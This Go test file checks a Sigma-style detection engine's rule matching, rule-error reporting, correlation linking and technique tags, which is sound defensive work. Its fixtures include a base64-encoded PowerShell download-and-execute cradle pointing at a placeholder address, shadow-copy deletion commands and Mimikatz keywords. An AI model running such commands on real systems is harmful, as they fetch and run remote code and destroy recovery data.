package detect

import (
	"encoding/base64"
	"strings"
	"testing"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func mustRule(t *testing.T, src string) *Rule {
	t.Helper()
	rs, err := ParseRules("r.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return rs[0]
}

func winEvent(data map[string]string) *Event {
	e := &Event{Product: ProductWindows, Service: "security", Raw: "raw line with Mimikatz inside", Extra: data}
	for k, v := range data {
		if f, ok := lookupField(k); ok {
			e.fields[f] = v
		}
	}
	return e
}

// Cases after the Sigma specification's examples: modifiers, wildcards,
// lists (or), maps (and), keywords, conditions with not, 1 of, all of.
func TestSigmaMatching(t *testing.T) {
	tests := []struct {
		name, detection string
		event           map[string]string
		want            bool
	}{
		{"equal ignores case", "sel: {Image: 'C:\\Windows\\System32\\VSSADMIN.EXE'}\n  condition: sel", map[string]string{"Image": `c:\windows\system32\vssadmin.exe`}, true},
		{"equal is whole", "sel: {Image: 'vssadmin.exe'}\n  condition: sel", map[string]string{"Image": `c:\windows\system32\vssadmin.exe`}, false},
		{"endswith", "sel: {Image|endswith: '\\vssadmin.exe'}\n  condition: sel", map[string]string{"Image": `C:\Windows\System32\vssadmin.exe`}, true},
		{"startswith", "sel: {CommandLine|startswith: 'VSSADMIN '}\n  condition: sel", map[string]string{"CommandLine": `vssadmin delete shadows`}, true},
		{"contains any of a list", "sel: {CommandLine|contains: [resize, delete]}\n  condition: sel", map[string]string{"CommandLine": `vssadmin Delete shadows`}, true},
		{"contains all", "sel: {CommandLine|contains|all: [delete, shadows]}\n  condition: sel", map[string]string{"CommandLine": `vssadmin delete catalog`}, false},
		{"wildcard", "sel: {CommandLine: 'vss*sh?dows*'}\n  condition: sel", map[string]string{"CommandLine": `VSSadmin delete shadows /all`}, true},
		{"escaped wildcard is literal", "sel: {CommandLine: 'a\\*b'}\n  condition: sel", map[string]string{"CommandLine": `axxb`}, false},
		{"escaped wildcard matches itself", "sel: {CommandLine: 'a\\*b'}\n  condition: sel", map[string]string{"CommandLine": `a*b`}, true},
		{"regular expression", "sel: {CommandLine|re: '^vssadmin(\\.exe)? +delete'}\n  condition: sel", map[string]string{"CommandLine": `vssadmin.exe  delete shadows`}, true},
		{"regular expression keeps case", "sel: {CommandLine|re: 'Delete'}\n  condition: sel", map[string]string{"CommandLine": `delete`}, false},
		{"regular expression i", "sel: {CommandLine|re|i: 'Delete'}\n  condition: sel", map[string]string{"CommandLine": `delete`}, true},
		{"map is and", "sel: {Image|endswith: '\\wmic.exe', CommandLine|contains: shadowcopy}\n  condition: sel", map[string]string{"Image": `C:\wmic.exe`, "CommandLine": "process list"}, false},
		{"list of maps is or", "sel:\n    - Image|endswith: '\\wmic.exe'\n    - CommandLine|contains: shadowcopy\n  condition: sel", map[string]string{"Image": `C:\x.exe`, "CommandLine": "wmic shadowcopy"}, true},
		{"extra field", "sel: {LogonType: 3}\n  condition: sel", map[string]string{"LogonType": "3"}, true},
		{"null is absent", "sel: {ParentImage: null}\n  condition: sel", map[string]string{}, true},
		{"numbers", "sel: {LogonType|gte: 3}\n  condition: sel", map[string]string{"LogonType": "10"}, true},
		{"cidr", "sel: {IpAddress|cidr: 10.30.0.0/16}\n  condition: sel", map[string]string{"IpAddress": "10.30.4.17"}, true},
		{"keywords", "kw: [mimikatz, 'sekurlsa::']\n  condition: kw", map[string]string{}, true},
		{"not", "sel: {EventID: 4688}\n  filter: {CommandLine|contains: list}\n  condition: sel and not filter", map[string]string{"EventID": "4688", "CommandLine": "vssadmin list shadows"}, false},
		{"1 of pattern", "sel_a: {EventID: 1}\n  sel_b: {EventID: 4688}\n  condition: 1 of sel_*", map[string]string{"EventID": "4688"}, true},
		{"all of pattern", "sel_a: {EventID: 1}\n  sel_b: {EventID: 4688}\n  condition: all of sel_*", map[string]string{"EventID": "4688"}, false},
		{"1 of them leaves out _names", "_x: {EventID: 4688}\n  sel: {EventID: 1}\n  condition: 1 of them", map[string]string{"EventID": "4688"}, false},
		{"parentheses and precedence", "a: {EventID: 1}\n  b: {EventID: 2}\n  c: {EventID: 3}\n  condition: a and b or c", map[string]string{"EventID": "3"}, true},
		{"windash slash", "sel: {CommandLine|windash|contains: ' -all'}\n  condition: sel", map[string]string{"CommandLine": `vssadmin delete shadows /all /quiet`}, true},
		{"windash en dash", "sel: {CommandLine|windash|contains: ' -all'}\n  condition: sel", map[string]string{"CommandLine": "vssadmin delete shadows \u2013all"}, true},
		{"windash keeps inner dashes", "sel: {CommandLine|windash|contains: 'a-b'}\n  condition: sel", map[string]string{"CommandLine": "a/b"}, false},
		{"base64offset", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": "powershell -enc " + b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")}, true},
		{"base64offset at offset 1", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xhttp://x")}, true},
		{"base64offset at offset 2", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xxhttp://xx")}, true},
		{"base64offset not there", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xxhttps://xx")}, false},
		{"base64", "sel: {CommandLine|base64|contains: 'whoami'}\n  condition: sel", map[string]string{"CommandLine": "x " + b64("whoami") + " y"}, true},
		{"exists", "sel: {CommandLine|exists: true}\n  condition: sel", map[string]string{"CommandLine": "x"}, true},
		{"exists false", "sel: {ParentImage|exists: false}\n  condition: sel", map[string]string{"CommandLine": "x"}, true},
		{"parentheses", "a: {EventID: 1}\n  b: {EventID: 2}\n  c: {EventID: 3}\n  condition: a and (b or c)", map[string]string{"EventID": "3"}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := mustRule(t, "title: t\nlogsource: {product: windows}\ndetection:\n  "+tc.detection+"\n")
			if got := r.cond.eval(winEvent(tc.event)); got != tc.want {
				t.Errorf("matched %v, want %v", got, tc.want)
			}
		})
	}
}

func TestLogsource(t *testing.T) {
	r := mustRule(t, "title: t\nlogsource: {product: linux, service: auth}\ndetection:\n  s: {action: failed}\n  condition: s\n")
	e := readOne(t, "Dec  1 09:14:02 h sshd[1]: Failed password for root from 192.0.2.1 port 1 ssh2")
	if !r.logsource.match(e) {
		t.Error("service auth does not take sshd's lines")
	}
	w := winEvent(nil)
	if r.logsource.match(w) {
		t.Error("a Windows event matched a linux rule")
	}
}

// Mistakes in rules are reported at their line and column.
func TestRuleErrorsHavePositions(t *testing.T) {
	tests := []struct{ src, want string }{
		{"title: t\ndetection:\n  sel:\n    Image|endswitch: x\n  condition: sel\n", `r.yml:4:5: Image: modifier "endswitch" is not one Ward reads`},
		{"title: t\ndetection:\n  sel: {a: b}\n  condition: sel and nothing\n", `r.yml:4:14: condition: no selection is named "nothing"`},
		{"title: t\ndetection:\n  sel: {a: b}\n  condition: sel | count() by src_ip > 10\n", `r.yml:4:14: condition: aggregations after | are old Sigma`},
		{"title: t\ndetection:\n  sel: {a: b}\n", `r.yml:3:3: detection has no condition`},
		{"title: t\nlevel: severe\ndetection:\n  sel: {a: b}\n  condition: sel\n", `r.yml:2:8: level "severe" is none of`},
		{"detection:\n  sel: {a: b}\n  condition: sel\n", `r.yml:1:1: the rule has no title`},
		{"title: t\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 10 minutes\n  condition: {gte: 3}\n", `r.yml:5:13: timespan: "10 minutes" is not a number and a unit`},
		{"title: t\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 10m\n  condition: {lt: 3}\n", `r.yml:6:15: condition lt: Ward counts only upwards`},
		{"title: t\ncorrelation:\n  type: value_count\n  rules: [x]\n  timespan: 10m\n  condition: {gte: 3}\n", `r.yml:6:14: value_count needs the field`},
		{"title: t\ndetection:\n  sel: {CommandLine|re: '(('}\n  condition: sel\n", `r.yml:3:9: CommandLine: regular expression: error parsing regexp`},
		{"title: t\ndetection:\n  sel: {CommandLine|base64offset: x}\n  condition: sel\n", `r.yml:3:9: CommandLine: base64offset goes with contains`},
		{"title: t\ndetection:\n  sel: {CommandLine|exists: maybe}\n  condition: sel\n", `r.yml:3:9: CommandLine: exists takes true or false`},
		{"title: a\n---\ntitle: t\ndetection:\n  sel: [{a: [b, {c: d}]}]\n  condition: sel\n", `r.yml:5:17: the value of a must be text`},
	}
	for _, tc := range tests {
		_, err := ParseRules("r.yml", []byte(tc.src))
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q:\n got %v\nwant %s", tc.src, err, tc.want)
		}
	}
}

func TestLinkErrors(t *testing.T) {
	rs, err := ParseRules("c.yml", []byte("title: c\ncorrelation:\n  type: event_count\n  rules: [nosuch]\n  timespan: 1m\n  condition: {gte: 2}\n"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewEngine(rs); err == nil || !strings.Contains(err.Error(), `c.yml:1: correlation "c" uses rule "nosuch", which no rule file has`) {
		t.Errorf("got %v", err)
	}
	rs, _ = ParseRules("d.yml", []byte("title: a\nname: x\ndetection: {s: {a: b}, condition: s}\n---\ntitle: b\nname: x\ndetection: {s: {a: b}, condition: s}\n"))
	if _, err := NewEngine(rs); err == nil || !strings.Contains(err.Error(), `d.yml:5: rule "x" is also at d.yml:1`) {
		t.Errorf("got %v", err)
	}
}

func TestBuiltinRulesCarryTechniques(t *testing.T) {
	rules, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewEngine(rules); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"ward-bruteforce-source":        "T1110",
		"ward-bruteforce-account":       "T1110",
		"ward-password-spraying":        "T1110.003",
		"ward-success-after-bruteforce": "T1110",
		"ward-web-flood-source":         "T1499",
		"ward-web-flood-service":        "T1498",
		"ward-shadow-copy-deletion":     "T1490",
		"ward-log-cleared":              "T1070.001",
	}
	for _, r := range rules {
		if tech, ok := want[r.ID]; ok {
			if !strings.Contains(strings.Join(r.Techniques, " "), tech) {
				t.Errorf("%s: techniques %v, want %s", r.ID, r.Techniques, tech)
			}
			delete(want, r.ID)
		}
		if !r.silent && r.Level == "" {
			t.Errorf("%s at %s:%d has no level", r.ID, r.File, r.Line)
		}
	}
	if len(want) > 0 {
		t.Errorf("no built-in rule %v", want)
	}
}

func FuzzParseRules(f *testing.F) {
	f.Add("title: t\nlogsource: {product: windows}\ndetection:\n  sel: {Image|endswith: x, CommandLine|contains|all: [a, b]}\n  f: [k]\n  condition: 1 of sel* and not f\n")
	f.Add("title: c\ncorrelation:\n  type: value_count\n  rules: [x]\n  group-by: [src_ip]\n  timespan: 10m\n  condition: {field: user, gte: 3}\n")
	f.Fuzz(func(t *testing.T, src string) {
		rs, err := ParseRules("f.yml", []byte(src))
		if err != nil {
			return
		}
		en, err := NewEngine(rs)
		if err != nil {
			return
		}
		e := readOne(t, "Dec  1 09:14:02 h sshd[1]: Failed password for root from 192.0.2.1 port 1 ssh2")
		en.Process(e)
	})
}
